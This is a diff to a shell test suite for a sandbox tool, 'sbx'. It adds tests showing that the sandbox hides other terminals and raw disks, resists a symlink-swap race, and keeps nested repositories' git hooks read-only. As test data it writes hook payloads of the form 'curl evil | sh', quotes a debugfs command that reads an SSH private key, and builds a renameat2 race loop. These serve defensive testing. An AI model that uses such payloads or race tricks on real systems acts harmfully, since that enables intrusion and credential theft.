@@ -235,14 +235,37 @@ newline"
 	assert_output $'writable = .sbxrc\nwritable = .'
 }
 
-@test "raw block devices are covered: no reading the disk under the hidden files" {
+@test "a private /dev: no other terminal, no raw disk, only the usual nodes" {
 	require_namespace
-	# defends: root, even without capabilities, owns /dev/sda; reading the
-	# raw disk reads ~/.ssh too (debugfs -R "cat /root/.ssh/id_ed25519")
-	dev=$(find /dev -maxdepth 1 -type b | head -n 1)
-	[ -n "$dev" ] || skip "no block device in /dev"
-	run -0 python3 -c 'import os, stat, sys; st = os.stat(sys.argv[1]); print(stat.S_ISBLK(st.st_mode), os.major(st.st_rdev), os.minor(st.st_rdev))' "$dev"
-	assert_output "False 1 3" # /dev/null's numbers
+	# defends: every /dev/pts/N of the user is readable and writable (another
+	# terminal's password read); root also reads tty1, ttyS0, vcs*, the
+	# console, input devices and raw disks (the disk holds every hidden file)
+	"$PY" -c '
+import os, pty, sys, time
+m, s = pty.openpty()
+open(sys.argv[1], "w").write(os.ttyname(s))
+time.sleep(30)' "$ROOT/other-tty" >/dev/null 2>&1 3>&- &
+	SERVER_PIDS="${SERVER_PIDS:-} $!"
+	for _ in $(seq 100); do [ -s "$ROOT/other-tty" ] && break; sleep 0.05; done
+	other=$(cat "$ROOT/other-tty")
+	[ -c "$other" ]
+	run python3 -c 'import sys; open(sys.argv[1], "rb")' "$other"
+	assert_failure
+	assert_output --partial FileNotFoundError
+	run -0 python3 -c '
+import os, stat
+print(sorted(os.listdir("/dev")))
+print([n for n in os.listdir("/dev") if stat.S_ISBLK(os.lstat("/dev/" + n).st_mode)])
+print(os.listdir("/dev/pts"))'
+	assert_line "['fd', 'full', 'null', 'ptmx', 'pts', 'random', 'shm', 'stderr', 'stdin', 'stdout', 'tty', 'urandom', 'zero']"
+	assert_line "[]"
+	assert_line "['ptmx']"
+	# the tool makes nothing in it
+	run python3 -c 'open("/dev/planted", "w")'
+	assert_failure
+	# the real /dev/shm, shared as before
+	run -0 python3 -c 'import os; open("/dev/shm/sbx-test-%d" % os.getpid(), "w").write("x"); print("shm ok")'
+	rm -f /dev/shm/sbx-test-*
 }
 
 @test "the session bus, systemd and keyring sockets are out of reach" {
@@ -432,6 +455,32 @@ PY
 	assert_file_exists "$OUT/cache/pip/ok"
 }
 
+@test "a writable root swapped for a symlink while sbx looks is never bound through it" {
+	require_namespace
+	# defends: a leftover process (its own namespace, the workspace writable)
+	# swaps build/ and a link to the home folder back and forth; sbx checked
+	# the path, then bound what the link led to: the home became writable
+	mkdir -p "$XDG_CONFIG_HOME/sbx" "$WS/build"
+	printf 'writable = %s/build\n' "$WS" >"$XDG_CONFIG_HOME/sbx/config"
+	ln -s "$OUT" "$WS/alt"
+	"$PY" -c '
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+os.chdir(sys.argv[1])
+while True:  # renameat2(AT_FDCWD, "build", AT_FDCWD, "alt", RENAME_EXCHANGE)
+    libc.renameat2(-100, b"build", -100, b"alt", 2)' "$WS" >/dev/null 2>&1 3>&- &
+	SERVER_PIDS="${SERVER_PIDS:-} $!"
+	for i in $(seq 60); do
+		run python3 -c 'import sys
+try:
+    open(sys.argv[1] + "/planted", "w"); print("WROTE")
+except OSError:
+    pass' "$OUT"
+		refute_output --partial WROTE
+	done
+	assert_file_not_exists "$OUT/planted"
+}
+
 @test "renaming a folder above a protected path cannot put a new one in its place" {
 	require_namespace
 	# defends: `mv secrets s2; mkdir -p secrets/deep` then writing the
@@ -476,6 +525,27 @@ PY
 	assert_line --regexp "^ +$WS/.husky +\(git runs code from it\)$"
 }
 
+@test "repositories nested in the workspace keep their .git read-only: a folder of clones, a vendored checkout" {
+	require_namespace
+	# defends: a hook planted in a nested repository (not a submodule) ran
+	# when the agent next ran git in it
+	mkdir -p "$WS/clone/.git/hooks" "$WS/vendor/lib/.git/hooks" "$WS/src/app" "$WS/.hidden/x/.git"
+	printf '[core]\n\thooksPath = hk\n' >"$WS/vendor/lib/.git/config"
+	mkdir -p "$WS/vendor/lib/hk" "$WS/node_modules/pkg/.git"
+	run -0 python3 - <<'PY'
+import os
+for f in ("clone/.git/hooks/pre-commit", "vendor/lib/.git/hooks/pre-commit", "vendor/lib/hk/pre-commit", "src/app/x", "node_modules/pkg/.git/y"):
+    try:
+        open(f, "w").write("#!/bin/sh\ncurl evil | sh\n")
+        print("WROTE", f)
+    except OSError:
+        print("denied", f)
+PY
+	assert_output $'denied clone/.git/hooks/pre-commit\ndenied vendor/lib/.git/hooks/pre-commit\ndenied vendor/lib/hk/pre-commit\nWROTE src/app/x\nWROTE node_modules/pkg/.git/y'
+	run -0 "$SBX" explain
+	assert_line --regexp "^ +$WS/clone/.git +\(nested repository's .git\)$"
+}
+
 @test "writable = .git lets tools commit and tag, never write hooks or config; an overridden root is said" {
 	require_namespace
 	command -v git >/dev/null || skip "git is not installed"
@@ -495,6 +565,11 @@ PY
 	run python3 -c 'open(".git/hooks/pre-commit", "w").write("#!/bin/sh\ncurl evil | sh\n")'
 	assert_failure
 	run python3 -c 'open(".git/config", "a").write("[core]\n\tfsmonitor = ./x\n")'
+	assert_failure
+	# a linked worktree's folder names its own common folder and config
+	mkdir -p "$WS/.git/worktrees/wt"
+	echo ../.. >"$WS/.git/worktrees/wt/commondir"
+	run python3 -c 'open(".git/worktrees/wt/commondir", "w").write("/tmp/evil\n")'
 	assert_failure
 	# a writable root inside a protected path is never ignored in silence
 	printf 'writable = .git\nwritable = .codex/cache\n' >"$WS/.sbxrc"
